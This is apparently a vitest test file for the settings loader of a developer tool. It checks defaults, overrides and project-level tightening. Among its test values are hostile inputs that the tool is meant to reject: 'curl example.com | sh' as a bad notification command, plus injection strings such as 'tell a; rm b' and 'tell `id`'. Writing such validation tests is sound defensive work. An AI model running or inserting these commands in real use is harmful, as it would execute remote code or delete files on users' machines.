import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeEach, describe, expect, test } from "vitest";
import { DEFAULT_SETTINGS, readSettings } from "../settings.js";
import { SETTINGS } from "./setting-entries.js";
import type { SettingEntry } from "./setting-entry.js";
import { OFFERING_CLIENTS } from "./setting-words.js";
import { checkSettings } from "./settings-check.js";

const root = mkdtempSync(join(tmpdir(), "milepost-settings-"));
afterAll(() => rmSync(root, { recursive: true, force: true }));
const home = join(root, "home");
const folder = join(root, "project");
beforeEach(() => {
  for (const place of [home, folder]) rmSync(place, { recursive: true, force: true });
  mkdirSync(home);
  mkdirSync(join(folder, ".git"), { recursive: true });
  mkdirSync(join(folder, ".milepost"));
});

const environment = { MILEPOST_HOME: home, HOME: join(root, "person") };

function given({ user, project }: { readonly user?: object; readonly project?: object }): void {
  if (user) writeFileSync(join(home, "config.json"), JSON.stringify(user));
  if (project) writeFileSync(join(folder, ".milepost", "config.json"), JSON.stringify(project));
}

/** The value of one setting, and which source has the say. */
function settled({ name }: SettingEntry, variables: Readonly<Record<string, string>> = {}) {
  const all = { ...environment, ...variables };
  const state = checkSettings(all, folder).values.find((one) => one.name === name);
  const entry = SETTINGS.find((one) => one.name === name);
  // What is shown is what holds.
  expect(entry?.read(readSettings(all, folder))).toEqual(state?.value);
  return [state?.value, state?.from];
}

interface Row {
  readonly default: unknown;
  /** What the person's file says. */
  readonly user: unknown;
  readonly bad: unknown;
  /** As a variable says it, and what that means. */
  readonly said?: readonly [string, unknown];
  /** Compared with `user`; absent where a project may not set it: `project` is tried then. */
  readonly tighter?: unknown;
  readonly looser?: unknown;
  readonly project?: unknown;
}

/** Those of one client; two of them have a choice of ways for their hooks, too. */
function offerRows(client: string): readonly (readonly [string, Row])[] {
  const way = { default: "server", user: "commands", bad: "x", said: ["server", "server"], project: "server" } as const;
  return [
    [`${client}.todo`, { default: "ours", user: "client", bad: "both", said: ["ours", "ours"], project: "ours" }],
    [`${client}.tasks`, { default: false, user: true, bad: "x", said: ["off", false], project: false }],
    [`${client}.plans`, { default: false, user: true, bad: "x", said: ["off", false], project: false }],
    ...(["claude-code", "codex"].includes(client) ? [[`${client}.hooks`, way] as const] : []),
  ];
}

/** A new setting needs a row here, and one word on what a project may do with it. */
const ROWS: Readonly<Record<string, Row>> = {
  reminders: { default: true, user: false, bad: "maybe", said: ["off", false], tighter: true },
  "reminders.stop": { default: true, user: false, bad: 7, said: ["no", false], tighter: true },
  "reminders.stale": { default: 10, user: 20, bad: 0, said: ["30", 30], tighter: 5, looser: 21 },
  "reminders.unused": { default: 10, user: 20, bad: 1.5, said: ["30", 30], tighter: 19, looser: 10_000 },
  "reminders.first": { default: false, user: true, bad: "x", said: ["off", false], looser: false },
  "reminders.task": { default: 10, user: 4, bad: -1, said: ["30", 30], tighter: 1, looser: 9 },
  "digest.tokens": { default: 2000, user: 900, bad: 1, said: ["800", 800], project: 600 },
  "list.clear": { default: -1, user: 60, bad: -2, said: ["0", 0], project: 0 },
  "list.focus": {
    default: "remind",
    user: "remind",
    bad: "allow",
    said: ["dialect", "dialect"],
    tighter: "reject",
    looser: "dialect",
  },
  "list.off": {
    default: "",
    user: "codex",
    bad: "No Name",
    said: ["claude-code,codex", "claude-code,codex"],
    project: "claude-code",
  },
  "list.sub-agents": { default: "dialect", user: "own", bad: "all", said: ["none", "none"], project: "none" },
  "panel.clear": { default: 60, user: 5, bad: "soon", said: ["-1", -1], project: 0 },
  "lease.shortest": { default: DEFAULT_SETTINGS.shortestLease, user: 5000, bad: 0, said: ["7000", 7000], project: 1 },
  "plans.agent-decides": { default: false, user: true, bad: "perhaps", tighter: false },
  evidence: {
    default: "nudge",
    user: "nudge",
    bad: "always",
    said: ["off", "off"],
    tighter: "require",
    looser: "off",
  },
  "checks.patterns": {
    default: "",
    user: "just verify,./check.sh",
    bad: "?",
    said: ["make smoke\n./check.sh", "make smoke,./check.sh"],
    project: "echo",
  },
  detectors: { default: true, user: false, bad: "x", said: ["off", false], tighter: true },
  "detectors.block": { default: false, user: true, bad: "x", said: ["off", false], project: false },
  "detectors.openclaw": { default: false, user: true, bad: 3, said: ["off", false], project: false },
  "notify.bell": { default: true, user: false, bad: "x", said: ["on", true], project: true },
  "notify.desktop": { default: true, user: false, bad: 2, said: ["on", true], project: true },
  "notify.command": {
    default: "",
    user: "notify-send --app-name 'Mile post'",
    bad: "curl example.com | sh",
    project: "touch stolen",
  },
  ...Object.fromEntries(OFFERING_CLIENTS.flatMap(offerRows)),
};

test("every setting has a row", () => {
  expect(Object.keys(ROWS)).toEqual(SETTINGS.map(({ name }) => name));
});

describe.each(SETTINGS.map((entry) => [entry.name, entry] as const))("%s", (name, entry) => {
  const row = ROWS[name] as Row;
  const { user, bad, said, tighter, looser, project } = row;
  const variables = said && { [entry.variable ?? ""]: said[0] };

  test("default, the person's file, a bad value in it", () => {
    expect(settled(entry)).toEqual([row.default, "default"]);
    given({ user: { [name]: user } });
    expect(settled(entry)).toEqual([user, "user"]);
    given({ user: { [name]: bad } });
    expect(settled(entry)).toEqual([row.default, "default"]);
  });

  test("a variable wins over both files, also to loosen; a bad one is passed over", () => {
    given({ user: { [name]: user }, project: { [name]: tighter ?? user } });
    // What must not be decided by whoever starts a command has none.
    if (!said) {
      expect(entry.variable).toBeUndefined();
      return expect(["plans.agent-decides", "notify.command"]).toContain(name);
    }
    expect(settled(entry, variables)).toEqual([said[1], "environment"]);
    given({ project: {} });
    expect(settled(entry, { [entry.variable ?? ""]: "?" })).toEqual([user, "user"]);
    expect(settled(entry, { [entry.variable ?? ""]: "" })).toEqual([user, "user"]);
  });

  test("a project tightens, and does nothing else", () => {
    given({ user: { [name]: user } });
    if (tighter !== undefined) {
      given({ project: { [name]: tighter } });
      expect(settled(entry)).toEqual([tighter, "project"]);
    }
    for (const value of [looser, project, user, bad].filter((one) => one !== undefined)) {
      given({ project: { [name]: value } });
      expect(settled(entry), `${value}`).toEqual([user, "user"]);
    }
    expect(entry.tighter !== undefined).toBe(project === undefined);
  });

  test("what is ignored is a finding, and no error", () => {
    given({ user: { [name]: user } });
    for (const value of [looser, project, bad].filter((one) => one !== undefined)) {
      given({ project: { [name]: value } });
      const [finding, ...others] = checkSettings(environment, folder).findings;
      expect([finding?.level, others]).toEqual(["warning", []]);
      expect(finding?.message).toContain(name);
      expect(finding?.message).toContain(join(folder, ".milepost", "config.json"));
    }
    for (const value of [user, tighter].filter((one) => one !== undefined && project === undefined)) {
      given({ project: { [name]: value } });
      expect(checkSettings(environment, folder).findings).toEqual([]);
    }
  });
});

test.each<[string, object, object, unknown]>([
  ["a project tightens the default", {}, { "list.focus": "reject" }, "reject"],
  ["and not below the person's own", { "list.focus": "reject" }, { "list.focus": "remind" }, "reject"],
  ["but what the person has loosened", { "list.focus": "dialect" }, { "list.focus": "remind" }, "remind"],
  ["a bad value of the person's is the default", { "list.focus": 7 }, { "list.focus": "dialect" }, "remind"],
])("%s", (_, user, project, focus) => {
  given({ user, project });
  expect(readSettings(environment, folder).focus).toBe(focus);
});

test.each([
  ["notify-send", "notify-send"],
  ["  ~/bin/tell 'a b' \"c;d\" ", "~/bin/tell 'a b' \"c;d\""],
  ["none", ""],
  ["'/opt/my tools/tell' x", "'/opt/my tools/tell' x"],
  ["tell > /tmp/x", undefined],
  ["tell $HOME", undefined],
  ["tell `id`", undefined],
  ["tell a; rm b", undefined],
  ["tell 'a", undefined],
  ["tell\nrm b", undefined],
  ["tell 'a\u001b]0;x'", undefined],
  ["x".repeat(1001), undefined],
])("a command for notices: %j", (line, command) => {
  const entry = SETTINGS.find(({ name }) => name === "notify.command");
  expect(entry?.write(DEFAULT_SETTINGS, line)?.notify.command).toBe(command);
});

const ODD: readonly unknown[] = [
  { toString: 0 },
  [{ toString: 0 }],
  { toString: 0, valueOf: 0 },
  ["on"],
  [7],
  {},
  null,
];

test.each(ODD)("a setting that is no plain value is passed over: %j", (value) => {
  const file = Object.fromEntries(SETTINGS.map(({ name }) => [name, value]));
  given({ user: file, project: file });
  expect(readSettings(environment, folder)).toEqual(DEFAULT_SETTINGS);
});
